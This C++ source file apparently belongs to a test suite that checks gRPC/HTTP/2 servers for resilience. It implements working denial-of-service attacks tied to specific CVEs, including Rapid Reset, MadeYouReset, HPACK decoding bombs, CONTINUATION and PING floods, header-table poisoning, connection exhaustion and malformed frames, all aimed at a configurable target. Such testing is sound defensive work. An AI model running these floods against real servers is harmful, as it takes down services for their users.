#include "tests/http2/attacks.h"

#include <algorithm>
#include <iterator>
#include <memory>
#include <vector>

namespace cordboard::http2 {
namespace {

const std::string kEmptyMessage(5, '\0');

std::string state_of(const Wire& wire) {
  if (wire.told_to_go()) return "GOAWAY " + std::to_string(wire.go_away_code());
  return wire.open() ? "connection stays" : "connection closed";
}

std::string call(std::uint32_t stream, bool tls) {
  return frame(FrameType::Headers, kEndHeaders, stream, call_headers(kHealthCheck, tls)) +
         frame(FrameType::Data, kEndStream, stream, kEmptyMessage);
}

// Sends `piece` so often in batches; what came of it.
template <class Piece>
std::string flood(Wire& wire, int times, Piece piece) {
  int sent = 0;
  std::string batch;
  while (sent < times) {
    batch.clear();
    const int end = std::min(times, sent + 500);
    for (; sent < end; ++sent) batch += piece(sent);
    if (!wire.send(batch)) break;
  }
  return "after " + std::to_string(sent) + ": " + state_of(wire);
}

// ---- CVE-2023-1428: a header that gRPC keeps a value of, wrongly written, and more than 8 KiB in all ----

std::string wrong_header(const Target& target, const std::string& block) {
  Wire wire(target);
  std::string headers = block;
  for (int i = 0; i < 10; ++i) headers += header("x-fill", std::string(1'000, 'f'));
  wire.send(frame(FrameType::Headers, kEndHeaders | kEndStream, 1, headers));
  const bool answered = wire.wait_for(1);
  return (answered ? "answered, " : "no answer, ") + state_of(wire);
}
std::string wrong_te(const Target& target, int) {
  return wrong_header(target, call_headers(kHealthCheck, target.tls) + header("te", "x"));
}
std::string wrong_scheme(const Target& target, int) {
  return wrong_header(target, "\x83" + header(":scheme", "x") + header(":path", kHealthCheck));
}
std::string wrong_stats(const Target& target, int) {
  return wrong_header(target, call_headers(kHealthCheck, target.tls) + header("grpclb_client_stats", "x"));
}

// ---- CVE-2023-33953: header blocks that cost more to read than to write ----

// A value of nearly 4 GiB is announced; so many MiB of it come.
std::string endless_value(const Target& target, int mebibytes) {
  Wire wire(target);
  std::string begin = call_headers(kHealthCheck, target.tls) + std::string(1, '\0') + text("x-long");
  begin += integer(0, 7, 0xfffffff0u);
  wire.send(frame(FrameType::Headers, 0, 1, begin));
  const std::string part = frame(FrameType::Continuation, 0, 1, std::string(16'000, 'v'));
  return flood(wire, mebibytes * 65, [&](int) { return part; });
}
// The length of a text as a number with so many MiB of leading zeroes.
std::string padded_number(const Target& target, int mebibytes) {
  Wire wire(target);
  std::string begin =
      call_headers(kHealthCheck, target.tls) + std::string(1, '\0') + text("x-padded") + "\x7f";
  wire.send(frame(FrameType::Headers, 0, 1, begin));
  const std::string part = frame(FrameType::Continuation, 0, 1, std::string(16'000, '\x80'));
  return flood(wire, mebibytes * 65, [&](int) { return part; });
}
// One header list without an end, each frame of it within the limit.
std::string many_headers(const Target& target, int frames) {
  Wire wire(target);
  wire.send(frame(FrameType::Headers, 0, 1, call_headers(kHealthCheck, target.tls)));
  std::string part;
  for (int i = 0; i < 7; ++i) part += header("x-many", std::string(1'000, 'm'));
  part = frame(FrameType::Continuation, 0, 1, part);
  return flood(wire, frames, [&](int) { return part; });
}
// The dynamic table is filled and resized again and again.
std::string table_resizes(const Target& target, int times) {
  Wire wire(target);
  return flood(wire, times, [&](int i) {
    std::string block = integer(0x20, 5, 0) + integer(0x20, 5, 4'096);
    block += call_headers(kHealthCheck, target.tls) + indexed_header("x-table", std::string(2'000, 't'));
    const auto stream = static_cast<std::uint32_t>(2 * i + 1);
    return frame(FrameType::Headers, kEndHeaders, stream, block) +
           frame(FrameType::RstStream, 0, stream, word(8));
  });
}

// ---- CVE-2023-4785: more connections than the server has descriptors ----

std::string many_connections(const Target& target, int connections) {
  std::vector<std::unique_ptr<Wire>> wires;
  wires.reserve(static_cast<std::size_t>(connections));
  int open = 0;
  for (int i = 0; i < connections; ++i) {
    wires.push_back(std::make_unique<Wire>(Target{target.host, target.port, false}, false));
    open += wires.back()->open() ? 1 : 0;
  }
  return std::to_string(open) + " of " + std::to_string(connections) + " connected, then all left";
}

// ---- CVE-2024-7246: who shares a connection pays for a header that somebody else wrote wrongly ----

std::string poisoned_table(const Target& target, int) {
  Wire wire(target);
  // -bin headers are base64; this one is not. Behind it a good header goes into the table of the connection.
  const std::string bad = call_headers(kHealthCheck, target.tls) + indexed_header("x-bad-bin", "!!!") +
                          indexed_header("x-good", "1");
  wire.send(frame(FrameType::Headers, kEndHeaders, 1, bad) +
            frame(FrameType::Data, kEndStream, 1, kEmptyMessage));
  wire.wait_for(1);
  // Somebody else's call, with the good header from the table: its newest entry is number 62.
  const std::string good = call_headers(kHealthCheck, target.tls) + "\xbe";
  wire.send(frame(FrameType::Headers, kEndHeaders, 3, good) +
            frame(FrameType::Data, kEndStream, 3, kEmptyMessage));
  wire.wait_for(3);
  const bool served = wire.answer(3).data;
  return (served ? "the other call is served, " : "POISONED: the other call fails, ") + state_of(wire);
}

// ---- CVE-2023-44487 and its relatives: streams that are opened to be closed ----

std::string rapid_reset(const Target& target, int streams) {
  Wire wire(target);
  return flood(wire, streams, [&](int i) {
    const auto stream = static_cast<std::uint32_t>(2 * i + 1);
    return frame(FrameType::Headers, kEndHeaders, stream, call_headers(kHealthCheck, target.tls)) +
           frame(FrameType::RstStream, 0, stream, word(8));
  });
}
// CVE-2025-8671: the server is made to reset them.
std::string made_to_reset(const Target& target, int streams) {
  Wire wire(target);
  return flood(wire, streams, [&](int i) {
    const auto stream = static_cast<std::uint32_t>(2 * i + 1);
    return frame(FrameType::Headers, kEndHeaders, stream, call_headers(kHealthCheck, target.tls)) +
           frame(FrameType::WindowUpdate, 0, stream, word(0));
  });
}

// ---- Floods of frames that cost the sender nothing ----

std::string continuation_flood(const Target& target, int frames) {
  Wire wire(target);
  wire.send(frame(FrameType::Headers, 0, 1, call_headers(kHealthCheck, target.tls)));
  const std::string part = frame(FrameType::Continuation, 0, 1);
  return flood(wire, frames, [&](int) { return part; });
}
std::string ping_flood(const Target& target, int frames) {
  Wire wire(target);
  const std::string ping = frame(FrameType::Ping, 0, 0, "8 bytes.");
  return flood(wire, frames, [&](int) { return ping; });
}
std::string settings_flood(const Target& target, int frames) {
  Wire wire(target);
  const std::string settings = frame(FrameType::Settings, 0, 0);
  return flood(wire, frames, [&](int) { return settings; });
}
std::string empty_data_flood(const Target& target, int frames) {
  Wire wire(target);
  wire.send(frame(FrameType::Headers, kEndHeaders, 1, call_headers(kHealthCheck, target.tls)));
  const std::string data = frame(FrameType::Data, 0, 1);
  return flood(wire, frames, [&](int) { return data; });
}

// ---- Frames that are none ----

std::string malformed_frames(const Target& target, int) {
  const std::string frames[] = {
      frame(FrameType::Data, 0, 0, "on no stream"),
      frame(FrameType::Headers, kEndHeaders, 2, call_headers(kHealthCheck, target.tls)),
      frame(FrameType::Headers, kEndHeaders, 1, "\xff\xff\xff\xff\xff\xff\xff\xff\xff\x7f"),
      frame(FrameType::Headers, kEndHeaders, 1, std::string("\x80", 1)),
      frame(FrameType::Headers, kEndHeaders | 0x8, 1, "\xff"),
      frame(FrameType::Continuation, kEndHeaders, 1),
      frame(FrameType::Settings, 0, 0, "short"),
      frame(FrameType::Settings, 0, 0, std::string("\0\4\xff\xff\xff\xff", 6)),
      frame(FrameType::Settings, 0, 0, std::string("\0\5\0\0\0\0", 6)),
      frame(FrameType::Ping, 0, 0, "no 8"),
      frame(FrameType::WindowUpdate, 0, 0, word(0)),
      frame(FrameType::WindowUpdate, 0, 0, word(0x7fffffff)) +
          frame(FrameType::WindowUpdate, 0, 0, word(0x7fffffff)),
      frame(FrameType::RstStream, 0, 0, word(0)),
      frame(FrameType::GoAway, 0, 0, "?"),
      frame(static_cast<FrameType>(0xee), 0xff, 0x7fffffff, "unknown"),
      word(0xffffff00) + word(0) + word(1),
      call(1, target.tls) + call(1, target.tls),
      std::string(100'000, '\0'),
      "GET / HTTP/1.1\r\n\r\n"};
  int ended = 0;
  for (const std::string& bytes : frames) {
    Wire wire(target);
    wire.send(bytes);
    wire.send(call(101, target.tls));
    wire.wait_for(101);
    ended += wire.open() && !wire.told_to_go() ? 0 : 1;
  }
  return std::to_string(ended) + " of " + std::to_string(std::size(frames)) + " connections were ended";
}

constexpr Attack kAttacks[] = {
    {"CVE-2023-1428 te", "a wrong te, and headers of more than 8 KiB", wrong_te, 1},
    {"CVE-2023-1428 scheme", "a wrong :scheme, and headers of more than 8 KiB", wrong_scheme, 1},
    {"CVE-2023-1428 stats", "grpclb_client_stats, and headers of more than 8 KiB", wrong_stats, 1},
    {"CVE-2023-33953 value", "a header's value of 4 GiB, 64 MiB of which come", endless_value, 64},
    {"CVE-2023-33953 number", "a number with 4 MiB of leading zeroes", padded_number, 4},
    {"CVE-2023-33953 list", "a header list of 64 MiB in frames of 7 KiB", many_headers, 9'000},
    {"HPACK table resizes", "20,000 header blocks that empty and fill the table", table_resizes, 20'000},
    {"CVE-2023-4785", "2,000 connections at once", many_connections, 2'000},
    {"CVE-2024-7246", "a misencoded header beside another's call", poisoned_table, 1},
    {"CVE-2023-44487", "rapid reset: 50,000 streams opened and reset", rapid_reset, 50'000},
    {"CVE-2025-8671", "50,000 streams that the server is made to reset", made_to_reset, 50'000},
    {"CONTINUATION flood", "100,000 empty CONTINUATION frames", continuation_flood, 100'000},
    {"PING flood", "100,000 PING frames", ping_flood, 100'000},
    {"SETTINGS flood", "100,000 SETTINGS frames", settings_flood, 100'000},
    {"empty DATA flood", "100,000 empty DATA frames", empty_data_flood, 100'000},
    {"malformed frames", "19 kinds of frames that are none", malformed_frames, 1},
};

}  // namespace

std::span<const Attack> attacks() { return kAttacks; }

}  // namespace cordboard::http2
